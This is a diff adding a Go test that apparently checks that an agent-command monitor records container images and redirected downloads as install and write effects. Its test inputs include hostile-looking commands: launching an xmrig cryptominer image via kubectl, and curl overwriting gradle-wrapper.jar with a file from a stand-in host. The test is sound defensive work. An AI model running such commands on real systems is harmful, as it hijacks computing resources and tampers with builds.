@@ -186,6 +186,35 @@ func TestDownloadDestinations(t *testing.T) {
 	}
 }
 
+// TestOrchestratorImages: images run by cluster and swarm commands, and downloads redirected
+// into files, are recorded like docker run's and curl -o's.
+func TestOrchestratorImages(t *testing.T) {
+	t.Parallel()
+	n := New(defaultCatalog(t), specOpts(t, Options{Workspace: ws, Home: home}))
+	for cmd, want := range map[string]string{
+		"kubectl run m --image=cryptoguy77/xmrig":                      "cryptoguy77/xmrig",
+		"kubectl run m --image busybox:1.36 -- sh":                     "busybox:1.36",
+		"kubectl set image deploy/api api=shadyns/api:1":               "shadyns/api:1",
+		"docker service create --name w --replicas 2 shadyns/worker":   "shadyns/worker",
+		"helm upgrade x ./c --set image.repository=ns/api,image.tag=2": "ns/api:2",
+	} {
+		a := n.Normalize("Bash", map[string]any{"command": cmd}, "")
+		if !effectWith(a, EffectInstall, "container_image", want) {
+			t.Errorf("%s: no image %s: %v", cmd, want, effectStrings(a.Effects))
+		}
+	}
+	a := n.Normalize("Bash", map[string]any{"command": "curl -s https://x.example/w.jar > gradle/wrapper/gradle-wrapper.jar"}, "")
+	if !effectWith(a, EffectWrite, "download", "gradle-wrapper.jar") {
+		t.Errorf("redirected download not attributed to curl: %v", effectStrings(a.Effects))
+	}
+	a = n.Normalize("Bash", map[string]any{"command": "wget -qO- https://x.example/h | tee out.txt"}, "")
+	for _, e := range a.Effects {
+		if e.Kind == EffectWrite && e.Program == "wget" {
+			t.Errorf("wget -qO- recorded a write of %s", e.Target)
+		}
+	}
+}
+
 // TestAutorunConnects: self-running code that connects is a "connect" autorun effect; scripts
 // run on demand are not judged for it.
 func TestAutorunConnects(t *testing.T) {
